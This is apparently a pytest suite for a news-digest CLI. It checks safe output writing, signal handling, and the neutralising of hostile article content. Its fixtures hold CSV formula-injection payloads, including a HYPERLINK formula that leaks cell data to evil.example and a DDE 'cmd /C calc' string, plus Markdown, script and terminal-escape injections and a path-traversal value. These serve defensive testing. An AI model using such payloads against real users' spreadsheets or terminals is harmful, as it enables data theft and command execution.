"""The bad-input corpus of unsafe outputs: -o replaces nothing it must not, digests inject nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from nlp.cli import main
from nlp.errors import ExportError
from nlp.export import render, write
from nlp.export.jsonfmt import SCHEMA_VERSION
from nlp.run.pipeline import analyze_paths
from nlp.session import open_curated
from nlp.topics.labels import assemble
from nlp.types import Article
from tests.conftest import REPO
from tests.test_robustness import OTHER, STORY



@pytest.fixture
def news(tmp_path: Path) -> Path:
    folder = tmp_path / "news"
    folder.mkdir()
    (folder / "budget.txt").write_text(f"Council approves budget\n\n{STORY}\n", "utf-8")
    (folder / "storm.txt").write_text(f"Storm floods harbour\n\n{OTHER}\n", "utf-8")
    return folder


def _one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err.strip()


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_o_refuses_a_fifo_a_folder_and_a_device(news: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "folder").mkdir()
    targets = {"pipe": "a FIFO (named pipe)", "folder": "a folder"}
    if os.geteuid() == 0:  # a device of our own (the null device's numbers), never the system's
        os.mknod(tmp_path / "null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        targets["null"] = "a character device"
    for name, kind in targets.items():
        assert main(["summarize", str(news), "-o", str(tmp_path / name), "-q"]) == 1
        assert _one_error_line(capsys) == (
            f"topic-digest: error: cannot write {tmp_path / name}: it is {kind}; give a regular file or a new name")
    assert stat.S_ISFIFO((tmp_path / "pipe").stat().st_mode) and (tmp_path / "folder").is_dir()
    if "null" in targets:
        assert stat.S_ISCHR((tmp_path / "null").stat().st_mode)


def test_o_through_a_symlink_to_a_device_is_refused(news: Path, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(tmp_path / "pipe")
    os.symlink(tmp_path / "pipe", tmp_path / "link.json")
    assert main(["summarize", str(news), "-o", str(tmp_path / "link.json"), "-q"]) == 1
    assert "it is a FIFO (named pipe)" in _one_error_line(capsys)
    assert (tmp_path / "link.json").is_symlink()


def test_o_onto_a_symlink_replaces_its_target_and_keeps_the_link(news: Path, tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "digest.json").write_text("old", "utf-8")
    os.symlink(tmp_path / "real" / "digest.json", tmp_path / "latest.json")
    assert main(["summarize", str(news), "-o", str(tmp_path / "latest.json"), "-q"]) == 0
    assert (tmp_path / "latest.json").is_symlink()
    assert json.loads((tmp_path / "real" / "digest.json").read_text("utf-8"))["schema_version"] == SCHEMA_VERSION
    assert _files(tmp_path / "real") == ["digest.json"]


def test_o_never_overwrites_an_input_of_the_run(news: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = (news / "budget.txt").read_bytes()
    assert main(["summarize", str(news / "budget.txt"), str(news / "storm.txt"), "-o", str(news / "budget.txt")]) == 1
    assert _one_error_line(capsys) == (
        f"topic-digest: error: cannot write {news / 'budget.txt'}: it is an input of this analysis; "
        "choose another output file")
    os.symlink(news / "storm.txt", tmp_path / "alias.txt")  # the same file by another name
    assert main(["summarize", str(news), "-o", str(tmp_path / "alias.txt")]) == 1
    assert f"it lies in {news}, an input folder of this analysis" in _one_error_line(capsys)
    assert (news / "budget.txt").read_bytes() == before and (tmp_path / "alias.txt").is_symlink()
    assert main(["summarize", str(news), "-o", str(news / "digest.md"), "-q"]) == 0  # a new name is no input
    assert (news / "digest.md").read_text("utf-8").startswith("# Topic Digest")
    (news / "budget.txt").write_text(f"Council approves the harbour budget\n\n{STORY}\n", "utf-8")
    assert main(["summarize", str(news), "-o", str(news / "digest.md"), "-q"]) == 0  # tomorrow's scheduled run
    assert "Council approves the harbour budget" in (news / "digest.md").read_text("utf-8")  # yesterday's replaced


def test_a_digest_never_replaces_a_file_its_articles_were_read_from(news: Path, tmp_path: Path) -> None:
    """Reopened from a session, an analysis's article files are no input of the run, and still kept."""
    session = tmp_path / "news.tdigest"
    assert main(["summarize", str(news), "--save-session", str(session)]) == 0
    draft = open_curated(session)
    before = (news / "budget.txt").read_bytes()
    with pytest.raises(ExportError, match=r"budget.txt: it is an input of this analysis"):
        write(draft.analysis, news / "budget.txt", "markdown")
    with pytest.raises(ExportError, match=r"news.tdigest: a digest is no session \(.tdigest\)"):
        write(draft.analysis, session, "json")
    assert (news / "budget.txt").read_bytes() == before and open_curated(session).analysis == draft.analysis


def test_a_failed_write_leaves_no_temporary_file_and_the_old_file(
    news: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    analysis = analyze_paths([news])
    out = tmp_path / "out"
    out.mkdir()
    (out / "digest.json").write_text("old", "utf-8")

    def full_disk(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(ExportError, match=r"cannot write .*digest.json: No space left on device"):
        write(analysis, out / "digest.json")

    def interrupted(fd: int) -> None:  # what a signal handler raising in the middle of the write looks like
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write(analysis, out / "digest.json")
    assert _files(out) == ["digest.json"] and (out / "digest.json").read_text("utf-8") == "old"


def test_a_temporary_file_left_by_a_killed_writer_goes_with_the_next_write(news: Path, tmp_path: Path) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    out = tmp_path / "out"
    out.mkdir()
    (out / f".d.json.{int(dead.stdout)}.x1y2.tmp").write_text("half a digest", "utf-8")  # as SIGKILL leaves it
    (out / f".d.json.{os.getppid()}.x3y4.tmp").write_text("being written", "utf-8")  # its writer still runs
    write(analyze_paths([news]), out / "d.json")
    assert _files(out) == [f".d.json.{os.getppid()}.x3y4.tmp", "d.json"]


def _catches_sigterm(pid: int) -> bool:
    """True once process ``pid`` has a handler for SIGTERM (Linux: the SigCgt mask in /proc)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("SigCgt:"):
            return bool(int(line.split()[1], 16) >> (signal.SIGTERM - 1) & 1)
    return False


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc to see when the handler is set")
def test_sigterm_during_a_run_leaves_nothing_and_exits_143(tmp_path: Path) -> None:
    news = tmp_path / "news"
    news.mkdir()
    for i in range(300):
        (news / f"{i:03d}.txt").write_text(f"Report {i}. {STORY if i % 2 else OTHER}\n", "utf-8")
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, "XDG_STATE_HOME": str(tmp_path / "state")}
    proc = subprocess.Popen([sys.executable, "-m", "nlp.cli", "summarize", str(news), "-o", str(out / "d.json")],
                            cwd=REPO, env=env, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while proc.poll() is None and not _catches_sigterm(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    if proc.returncode == 0:
        pytest.skip("the run ended before the signal")
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert err.strip().splitlines()[-1] == "topic-digest: interrupted; nothing was written"
    assert "Traceback" not in err
    assert _files(out) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_stdout_on_a_full_device_is_one_line_and_exit_1(tmp_path: Path) -> None:
    env = {**os.environ, "XDG_STATE_HOME": str(tmp_path / "state")}
    with open("/dev/full", "w") as full:
        proc = subprocess.run([sys.executable, "-m", "nlp.cli", "summarize", "--sample", "-q"], cwd=REPO, env=env,
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert proc.returncode == 1
    assert proc.stderr == "topic-digest: error: cannot write to standard output: No space left on device\n"


def test_a_stdout_write_error_in_process(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    class Closed(io.TextIOBase):
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(sys, "stdout", Closed())
    assert main(["summarize", "--sample", "-q"]) == 1
    assert _one_error_line(capsys) == "topic-digest: error: cannot write to standard output: Broken pipe"


def _hostile_analysis(tmp_path: Path) -> Path:
    folder = tmp_path / "feed"
    folder.mkdir()
    records = [
        {"title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "source": "@SUM(1+1)", "text": STORY},
        {"title": "Storm\n# Injected heading\n\n- injected item\n<script>x</script>",
         "text": OTHER + " \x1b]0;owned\x07Terminal \x1b[31mred\x1b[0m text\x9b2J here.", "source": "+cmd|' /C calc'!A0"},
    ]
    (folder / "feed.json").write_text(json.dumps(records), "utf-8")
    (folder / "evil\x1b[2Jname.txt").write_bytes(b"")  # an empty file whose name holds a terminal sequence
    return folder


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(render(analyze_paths([_hostile_analysis(tmp_path)]), "csv"))))
    titles = {r["article_title"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in titles
    assert {r["article_source"] for r in rows} == {"'@SUM(1+1)", "'+cmd|' /C calc'!A0"}
    for row in rows:
        for column in ("cluster_label", "text", "article_id", "article_title", "article_source", "article_path"):
            assert not row[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row[column]


def test_markdown_and_text_fields_stay_on_their_line_and_hold_no_control_characters(tmp_path: Path) -> None:
    analysis = analyze_paths([_hostile_analysis(tmp_path)])
    markdown = render(analysis, "markdown")
    lines = markdown.splitlines()
    assert not any(line.startswith(("# Injected", "- injected", "<script")) for line in lines)
    assert "Storm \\# Injected heading - injected item \\<script\\>x\\</script\\>" in markdown
    text = render(analysis, "text")
    for digest in (markdown, text):
        assert not any(ch in digest for ch in "\x1b\x07\x9b")
    assert "]0;ownedTerminal [31mred[0m text2J here." in text
    assert not any(line.startswith("# Injected") for line in text.splitlines())


def test_warnings_hold_no_control_characters(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _hostile_analysis(tmp_path)
    assert main(["summarize", str(folder), "--format", "json"]) == 0
    err = capsys.readouterr().err
    assert err == f"topic-digest: warning: skipped {folder}/evil[2Jname.txt: empty file\n"


def test_language_takes_only_a_known_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    words = tmp_path / "words.txt"
    words.write_text("the\na\n", "utf-8")
    with pytest.raises(SystemExit) as exit_:
        main(["summarize", "--sample", "--language", str(words.with_suffix(""))])
    assert exit_.value.code == 2
    assert f"unknown language '{words.with_suffix('')}'; choose one of: " in capsys.readouterr().err
    settings = tmp_path / "settings.json"
    hostile = "../../../../" + str(words.with_suffix(""))  # never read: a path posing as a language
    settings.write_text(json.dumps({"language": hostile}), "utf-8")
    assert main(["summarize", "--sample", "--config", str(settings)]) == 2
    assert "unknown language" in _one_error_line(capsys)


def test_two_topics_are_never_both_called_other() -> None:
    articles = [Article(id=i, path=f"{i}.txt", title=t, body=t) for i, t in
                (("a", "Harbour storm closes ferries"), ("b", "Budget vote"), ("c", "Loner"))]
    clusters = assemble(articles, [(), ("budget", "vote")], [[0], [1], [2]], has_other=True)
    assert [c.label for c in clusters] == ["Harbour storm closes ferries", "budget · vote", "Other"]
    assert [c.is_other for c in clusters] == [False, False, True]


def test_error_lines_name_the_path_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "x"
    assert main(["summarize", str(missing)]) == 1
    err = capsys.readouterr().err
    assert err == f"topic-digest: error: no usable articles: all 1 inputs were skipped\n  {missing}: no such file or folder\n"


def test_no_traceback_reaches_the_user(news: Path, monkeypatch: pytest.MonkeyPatch,
                                       capsys: pytest.CaptureFixture[str], log_file: Path) -> None:
    import nlp.run.pipeline

    def broken(*args: object, **kwargs: object) -> object:
        raise FileNotFoundError(2, "No such file or directory", "/usr/share/missing.dat")

    monkeypatch.setattr(nlp.run.pipeline, "analyze", broken)
    assert main(["summarize", str(news)]) == 1
    line = _one_error_line(capsys)
    assert line == (f"topic-digest: error: /usr/share/missing.dat: unexpected FileNotFoundError: "
                    f"[Errno 2] No such file or directory: '/usr/share/missing.dat' (details in {log_file})")
    assert "Traceback (most recent call last)" in log_file.read_text("utf-8")
